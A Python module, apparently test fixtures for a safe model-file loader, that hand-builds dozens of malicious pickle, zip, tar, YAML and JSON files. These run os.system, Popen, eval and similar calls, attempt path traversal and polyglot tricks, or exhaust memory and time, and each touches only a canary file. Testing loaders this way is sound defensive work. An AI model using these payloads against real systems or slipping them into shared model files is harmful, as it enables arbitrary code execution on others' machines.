"""Files that try to run code, or to take all memory or time, where they are loaded.  Each would create the file ``canary``."""

import io
import marshal
import pickle
import struct
import tarfile
import zipfile
from collections import OrderedDict
from collections.abc import Callable
from pathlib import Path

import torch

MAGIC, PROTOCOL = 0x1950A86A20F9469CFC6C, 1001
Make = Callable[[Path], bytes]


class Calls:
    """Unpickled, it calls ``what(*arguments)``."""

    def __init__(self, what: str, *arguments: object, protocol: int = 2):
        self.module, _, self.name = what.rpartition(".")
        self.arguments, self.protocol = arguments, protocol

    def pickled(self) -> bytes:
        """Written by hand, as nothing that it names is imported here either."""
        head = b"\x80" + bytes([self.protocol]) if self.protocol > 1 else b""
        return head + self.reduced() + b"."

    def reduced(self) -> bytes:
        if self.protocol >= 4:
            name = text(self.module) + text(self.name) + b"\x93"
        else:
            name = f"c{self.module}\n{self.name}\n".encode()
        return name + b"(" + b"".join(value(a) for a in self.arguments) + b"tR"


def text(words: str) -> bytes:
    data = words.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def value(item: object) -> bytes:
    if isinstance(item, Calls):
        return item.reduced()
    if isinstance(item, bytes):
        return b"B" + struct.pack("<I", len(item)) + item
    if isinstance(item, int):
        return b"J" + struct.pack("<i", item)
    return text(str(item)) if item is not None else b"N"


def named(kind: Callable[[str], bytes]) -> Make:
    return lambda canary: kind(str(canary))


def shell(canary: str) -> str:
    return f"touch {canary}"


def python(canary: str) -> str:
    return f"open({canary!r}, 'w').close()"


def calling(what: str, command: Callable[[str], str] = shell, protocol: int = 2, *more: object) -> Make:
    return lambda canary: Calls(what, command(str(canary)), *more, protocol=protocol).pickled()


def getattr_chain(canary: str) -> bytes:
    module = Calls("builtins.__import__", "os")
    return b"\x80\x02" + Calls("builtins.getattr", module, "system").reduced() + b"(" + text(shell(canary)) + b"tR."


def method_chain(canary: str) -> bytes:
    """From an allowed class to the globals of its methods."""
    start = Calls("builtins.getattr", Calls("builtins.getattr", "", "__class__"), "__subclasses__").reduced()
    return b"\x80\x02ccollections\nOrderedDict\n0" + start + b")R."


def instance(canary: str) -> bytes:
    return b"(" + b"V" + shell(canary).encode() + b"\nios\nsystem\n."


def old_object(canary: str) -> bytes:
    return b"\x80\x02(cos\nsystem\n" + text(shell(canary)) + b"o."


def new_object(canary: str) -> bytes:
    return b"\x80\x02csubprocess\nPopen\n(" + text(shell(canary)) + b"t\x81."


def new_object_with_names(canary: str) -> bytes:
    keys = b"}(" + text("args") + text(shell(canary)) + text("shell") + b"\x88u"
    return b"\x80\x04" + text("subprocess") + text("Popen") + b"\x93)" + keys + b"\x92."


def state(canary: str) -> bytes:
    """A class's own __setstate__, with a state that was made to be called."""
    return b"\x80\x02cfunctools\npartial\n(cos\nsystem\ntR(cos\nsystem\n(" + text(shell(canary)) + b"t}Ntb)R."


def made_callable(canary: str) -> bytes:
    """What a permitted global returned is called."""
    return b"\x80\x02ccollections\nOrderedDict\n)R(" + text(shell(canary)) + b"tR."


def stand_in_called(canary: str) -> bytes:
    return b"\x80\x02cargparse\nNamespace\n)R(" + text(shell(canary)) + b"tR."


def persistent(canary: str) -> bytes:
    return b"\x80\x02" + b"(" + text("module") + b"cos\nsystem\n" + text(shell(canary)) + text("x") + b"tQ."


def storage_of_evil(canary: str) -> bytes:
    return b"\x80\x02(" + text("storage") + b"cos\nsystem\n" + text(shell(canary)) + text("cpu") + b"K\x01tQ."


def in_zip(make: Make, before: bytes = b"", wrap: bool = True) -> Make:
    """As the pickle of torch.save's archive, inside of a state_dict."""

    def made(canary: Path) -> bytes:
        evil = make(canary)[2:-1]
        inner = b"\x80\x02}(" + text("state_dict") + b"}(" + text("w") + evil + b"uu." if wrap else make(canary)
        return before + archive({"archive/data.pkl": inner, "archive/version": b"3\n", "archive/byteorder": b"little"})

    return made


def archive(records: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    found = io.BytesIO()
    with zipfile.ZipFile(found, "w", compression) as file:
        for name, data in records.items():
            file.writestr(name, data)
    return found.getvalue()


def in_legacy(make: Make) -> Make:
    def made(canary: Path) -> bytes:
        facts = {"protocol_version": 1001, "little_endian": True, "type_sizes": {"short": 2, "int": 4, "long": 4}}
        parts = [pickle.dumps(part, 2) for part in (MAGIC, PROTOCOL, facts)]
        return b"".join(parts) + make(canary) + pickle.dumps([], 2)

    return made


def in_header_of_legacy(canary: Path) -> bytes:
    return pickle.dumps(MAGIC, 2) + calling("os.system")(canary)


def beside_weights(make: Make) -> Make:
    """Good weights first, so that only a reader that looks at everything sees the rest."""

    def made(canary: Path) -> bytes:
        good = pickle.dumps({"backbone.body.conv1.weight": b"\0" * 64}, 2)[:-1]
        return b"\x80\x02}(" + text("model") + good[2:] + text("hooks") + make(canary)[2:-1] + b"u."

    return made


def twice(canary: Path) -> bytes:
    """Two records of one name: readers differ in which they take."""
    found, evil = io.BytesIO(), calling("os.system")(canary)
    with zipfile.ZipFile(found, "w") as file:
        file.writestr("archive/data.pkl", pickle.dumps({"a": 1}, 2))
        file.writestr("archive/data.pkX", evil)
    return found.getvalue().replace(b"archive/data.pkX", b"archive/data.pkl")


def good_zip() -> bytes:
    found = io.BytesIO()
    torch.save({"w": torch.ones(2)}, found)
    return found.getvalue()


def traversing(canary: Path) -> bytes:
    return archive({"archive/data.pkl": pickle.dumps({}, 2), f"archive/../../..{canary}": b"x"})


def package(canary: Path) -> bytes:
    evil = calling("os.system")(canary)
    return archive({"p/.data/version": b"6\n", "p/model/model.pkl": evil, "p/evil.py": python(str(canary)).encode()})


def exported(canary: Path) -> bytes:
    evil = calling("os.system")(canary)
    return archive({"x/archive_format": b"pt2", "x/models/model.json": b"{}", "x/data/weights/w.pt": evil})


def script(canary: Path) -> bytes:
    code = f"import os\nos.system({shell(str(canary))!r})\n".encode()
    return archive({"s/data.pkl": pickle.dumps({}, 2), "s/code/__torch__.py": code, "s/constants.pkl": b"\x80\x02)."})


def tar(canary: Path) -> bytes:
    found = io.BytesIO()
    with tarfile.open(fileobj=found, mode="w") as file:
        for name in ("storages", "tensors", "pickle", "../escaped"):
            info = tarfile.TarInfo(name)
            info.size = len(data := calling("os.system")(canary))
            file.addfile(info, io.BytesIO(data))
    return found.getvalue()


def polyglot(canary: Path) -> bytes:
    """Safetensors to one reader, a zip archive to another."""
    header = b'{"a":{"dtype":"U8","shape":[0],"data_offsets":[0,0]}}'
    return struct.pack("<Q", len(header)) + header + in_zip(calling("os.system"))(canary)


def of_arrays(canary: Path) -> bytes:
    """A numpy array of objects, one of which calls."""
    made = Calls("numpy.core.multiarray._reconstruct", Calls("numpy.ndarray"), 0).reduced()
    evil = Calls("os.system", shell(str(canary))).reduced()
    return b"\x80\x02" + made + b"(K\x01K\x01\x85cnumpy\ndtype\n(" + text("O8") + b"tR\x89](" + evil + b"etb."


def of_own_type(canary: Path) -> bytes:
    return (
        b"\x80\x02ctorch._utils\n_rebuild_from_type_v2\n(cos\nsystem\nccollections\nOrderedDict\n"
        + b"("
        + text(shell(str(canary)))
        + b"tNtR."
    )


def nested_bytes(what: str) -> Make:
    return lambda canary: Calls(what, calling("os.system")(canary)).pickled()


def code_object(canary: Path) -> bytes:
    code = marshal.dumps(compile(python(str(canary)), "x", "exec"))
    return Calls("types.FunctionType", Calls("marshal.loads", code), None).pickled()


def yaml_tags(canary: Path) -> bytes:
    return f"train: !!python/object/apply:os.system ['touch {canary}']\n".encode()


def yaml_new(canary: Path) -> bytes:
    return f"!!python/object/new:subprocess.Popen [['touch', '{canary}']]\n".encode()


def yaml_loop(canary: Path) -> bytes:
    return b"a: &a [x, x]\n" + b"".join(b"%c: &%c [*%c, *%c]\n" % (c + 1, c + 1, c, c) for c in range(97, 121))


def json_constructor(canary: Path) -> bytes:
    return b'{"__reduce__": ["os.system", "touch ' + str(canary).encode() + b'"], "py/object": "os.system"}'


def loops() -> dict[str, Make]:
    """Files that name no function and want all memory or time."""
    doubled = b"\x80\x02)" + b"".join(b"q" + bytes([i]) + b"h" + bytes([i]) + b"\x86" for i in range(60))
    long_text = text("numpy.X" * 200_000)
    encode = b"c_codecs\nencode\n" + text("x" * 1_000_000) + b"q\x01" + text("latin1") + b"\x86q\x00R0"
    again = b"c_codecs\nencode\nh\x00R0" * 100_000
    return {
        "memo of 4 billion": lambda _: b"\x80\x02}r\xff\xff\xff\xff.",
        "length of 2**62": lambda _: b"\x80\x04\x8e" + struct.pack("<Q", 2**62) + b"x.",
        "length of 4 GB": lambda _: b"\x80\x03B\xff\xff\xff\xffx.",
        "a million lists": lambda _: b"\x80\x02" + b"]" * 3_000_000 + b".",
        "deep lists": lambda _: b"\x80\x02" + b"]" * 500_000 + b"a" * 499_999 + b".",
        "a key that takes for ever to hash": lambda _: b"\x80\x02}" + doubled[2:] + b"K\x01s.",
        "the same bytes again": lambda _: b"\x80\x02" + encode + again + b"N.",
        "a long name": lambda _: b"\x80\x04" + long_text + text("Y") + b"\x93.",
        "a tensor of nothing": lambda _: archive({"a/data.pkl": strided(), "a/data/0": bytes(4)}),
        "packed zeros": lambda _: archive({"a/data.pkl": bytes(50_000_000)}, zipfile.ZIP_DEFLATED),
    }


def strided() -> bytes:
    """2**40 numbers that share one, by a stride of zero."""
    data = b"(" + text("storage") + b"ctorch\nFloatStorage\n" + text("0") + text("cpu") + b"K\x01tQ"
    shape = b"\x8a\x06" + (2**40).to_bytes(6, "little") + b"\x85K\x00\x85"
    return b"\x80\x02}" + text("w") + b"ctorch._utils\n_rebuild_tensor_v2\n(" + data + b"K\x00" + shape + b"\x89}tRs."


FILES: dict[str, Make] = {
    "os.system": calling("os.system"),
    "os.system, text protocol": calling("os.system", protocol=0),
    "os.system, protocol 4": calling("os.system", protocol=4),
    "os.system, protocol 5": calling("os.system", protocol=5),
    "posix.system": calling("posix.system"),
    "nt.system": calling("nt.system"),
    "eval": calling("builtins.eval", python),
    "exec": calling("builtins.exec", python),
    "eval of Python 2": calling("__builtin__.eval", python),
    "Popen": calling("subprocess.Popen", shell, 2, -1, None, None),
    "check_output": calling("subprocess.check_output"),
    "pty.spawn": calling("pty.spawn"),
    "open": calling("builtins.open", str, 2, "w"),
    "runpy": calling("runpy._run_code", python),
    "import_module": calling("importlib.import_module", lambda canary: "antigravity"),
    "pip": calling("pip.main", lambda canary: "install"),
    "socket": calling("socket.create_connection", lambda canary: "127.0.0.1"),
    "webbrowser": calling("webbrowser.open", lambda canary: "http://127.0.0.1"),
    "numpy's runstring": calling("numpy.testing._private.utils.runstring", python),
    "numpy's f2py": calling("numpy.f2py.compile", python),
    "torch.hub.load": calling("torch.hub.load", lambda canary: "a/b"),
    "torch's inductor": calling("torch._inductor.codecache.PyCodeCache.load", python),
    "bytes to torch's storages": nested_bytes("torch.storage._load_from_bytes"),
    "bytes to pickle": nested_bytes("pickle.loads"),
    "bytes to _pickle": nested_bytes("_pickle.loads"),
    "a code object": code_object,
    "getattr chain": named(getattr_chain),
    "subclasses": named(method_chain),
    "INST": named(instance),
    "OBJ": named(old_object),
    "NEWOBJ": named(new_object),
    "NEWOBJ_EX": named(new_object_with_names),
    "BUILD": named(state),
    "a result is called": named(made_callable),
    "a stand-in is called": named(stand_in_called),
    "EXT1": lambda canary: b"\x80\x02\x82\x01(" + text(shell(str(canary))) + b"tR.",
    "PERSID": lambda canary: f"Pos.system {canary}\n.".encode(),
    "a module as persistent id": named(persistent),
    "a storage of an evil type": named(storage_of_evil),
    "numpy objects": of_arrays,
    "a tensor of its own type": of_own_type,
    "NEXT_BUFFER": lambda canary: b"\x80\x05\x97.",
    "zip: state_dict": in_zip(calling("os.system")),
    "zip: eval": in_zip(calling("builtins.eval", python)),
    "zip: BUILD": in_zip(named(state), wrap=False),
    "zip: something before": in_zip(calling("os.system"), b"GIF89a"),
    "zip: good, then evil under its name": twice,
    "zip: names that lead out": traversing,
    "zip: a program": script,
    "zip: torch.package": package,
    "zip: torch.export": exported,
    "zip: good, a pickle behind it": lambda canary: good_zip() + calling("os.system")(canary),
    "older: state": in_legacy(calling("os.system")),
    "older: INST": in_legacy(named(lambda canary: b"\x80\x02" + instance(canary))),
    "older: its second pickle": in_header_of_legacy,
    "pkl: beside weights": beside_weights(calling("os.system")),
    "pkl: Popen beside weights": beside_weights(named(new_object)),
    "pkl: an ordered dictionary of pairs": lambda canary: (
        b"\x80\x02ccollections\nOrderedDict\n(](](" + text("a") + calling("os.system")(canary)[2:-1] + b"eetR."
    ),
    "tar": tar,
    "safetensors and zip": polyglot,
    "yaml: apply": yaml_tags,
    "yaml: new": yaml_new,
    "yaml: doubled": yaml_loop,
    "json": json_constructor,
    "a pickle of a class": lambda canary: pickle.dumps(OrderedDict(a=1), 2).replace(b"OrderedDict", b"evilOrdered"),
    **loops(),
}
